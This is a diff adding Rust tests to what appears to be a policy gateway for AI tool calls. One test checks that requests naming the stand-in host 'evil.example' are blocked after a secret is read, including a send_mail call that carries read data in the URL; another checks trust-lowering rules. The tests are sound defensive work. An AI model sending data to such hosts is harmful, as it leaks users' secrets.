@@ -11,6 +11,7 @@ use tokio::task::JoinSet;
 use super::server::Server;
 use super::{Gate, call_with, decision_of, over_http, read_key, send_mail};
 use crate::listen::caller::Caller;
+use crate::listen::modern;
 use crate::wire::code_of;
 
 const CLASSES: &str = "[server.tool.read_file]\nclass = [\"read\"]\n";
@@ -170,4 +171,99 @@ forbid (principal, action == Action::"call_tool", resource) when { resource.name
         .await;
     assert!(caller.ask(&call_with(3, "push", &json!({}))).await[0].contains("push("));
     assert_eq!(server.seen("tools/call").len(), 1);
+}
+
+#[tokio::test]
+async fn what_stands_beside_the_arguments_carries_no_secret_away_either() {
+    let (_files, mail, gate) = office().await;
+    let mut writer = gate.caller("mail");
+    writer.open_session().await;
+    let completion = |id: u32, host: &str| {
+        let uri = format!("https://{host}/{{x}}");
+        let params = json!({
+            "ref": {"type": "ref/resource", "uri": uri},
+            "argument": {"name": "x", "value": "as read"},
+            "context": {"arguments": {"y": "z"}},
+        });
+        json!({"jsonrpc": "2.0", "id": id, "method": "completion/complete", "params": params})
+            .to_string()
+    };
+    let answered = |id: u32, url: &str| {
+        let arguments = r#""name":"send_mail","arguments":{"url":"http://localhost/"}"#;
+        let answer = json!({"where": {"action": "accept", "content": {"url": url}}});
+        let params = format!(r#"{arguments},"inputResponses":{answer},"#);
+        modern(id, "tools/call", &params)
+    };
+    // What nobody forbids goes through, before a key was read and after.
+    writer.ask(&completion(1, "evil.example")).await;
+    assert_eq!(mail.seen("completion/complete").len(), 1);
+    let mut reader = gate.caller("files");
+    reader.open_session().await;
+    assert!(reader.ask(&read(1)).await[0].contains("read_file("));
+    writer.ask(&completion(2, "localhost")).await;
+    assert_eq!(mail.seen("completion/complete").len(), 2);
+    let newer = gate.stateless("mail", "send_mail");
+    let told = newer.ask(&answered(3, "http://localhost/")).await;
+    assert!(told[0].contains("send_mail("), "{told:?}");
+
+    let told = writer.ask(&completion(4, "evil.example")).await;
+    assert_eq!(code_of(&told[0]), Some(Code::Denied), "{told:?}");
+    assert_eq!(mail.seen("completion/complete").len(), 2);
+    let told = newer
+        .ask(&answered(5, "https://evil.example/?d=as-read"))
+        .await;
+    assert_eq!(code_of(&told[0]), Some(Code::Denied), "{told:?}");
+    assert_eq!(mail.seen("tools/call").len(), 1);
+}
+
+#[tokio::test]
+async fn whose_trust_was_lowered_calls_nothing_that_takes_more() {
+    let server = Server::with(&["look", "push", "guarded"]).await;
+    let config = format!(
+        "[tenant.default]\npolicy = [\"lower.toml\"]\n{}[server.tool.push]\nmin_level = 2\n",
+        over_http("files", &server)
+    );
+    let stage = crate::wire::Stage::set();
+    let lower = r#"
+version = 1
+[[fact]]
+id = "look"
+on = "call"
+when = { tool = ["look"] }
+[[fact]]
+id = "guarded.low"
+on = "call"
+when = { tool = ["guarded"], level_below = 2 }
+[[sequence]]
+id = "looked"
+match = "look"
+then = "lower_trust(L1)"
+reason = "It looked."
+[[sequence]]
+id = "guard"
+match = "guarded.low"
+then = "deny"
+reason = "Not below L2."
+"#;
+    fs::write(stage.world.dir().join("lower.toml"), lower).unwrap();
+    let gate = Gate::open_on(stage, &config).await;
+    let mut caller = gate.caller("files");
+    caller.open_session().await;
+    let mut id = 0;
+    let mut asks = async |tool: &str| {
+        id += 1;
+        caller.ask(&call_with(id, tool, &json!({}))).await.remove(0)
+    };
+    for tool in ["push", "guarded", "look"] {
+        let told = asks(tool).await;
+        assert!(told.contains(&format!("{tool}(")), "{told}");
+    }
+    let told = asks("push").await;
+    assert_eq!(code_of(&told), Some(Code::TrustTooLow), "{told}");
+    let record = gate.record("decision", &decision_of(&told)).await;
+    assert_eq!(record["rule"], "server.files.tool.push.min_level");
+    let told = asks("guarded").await;
+    assert_eq!(code_of(&told), Some(Code::Denied), "{told}");
+    assert!(asks("look").await.contains("look("));
+    assert_eq!(server.seen("tools/call").len(), 4);
 }
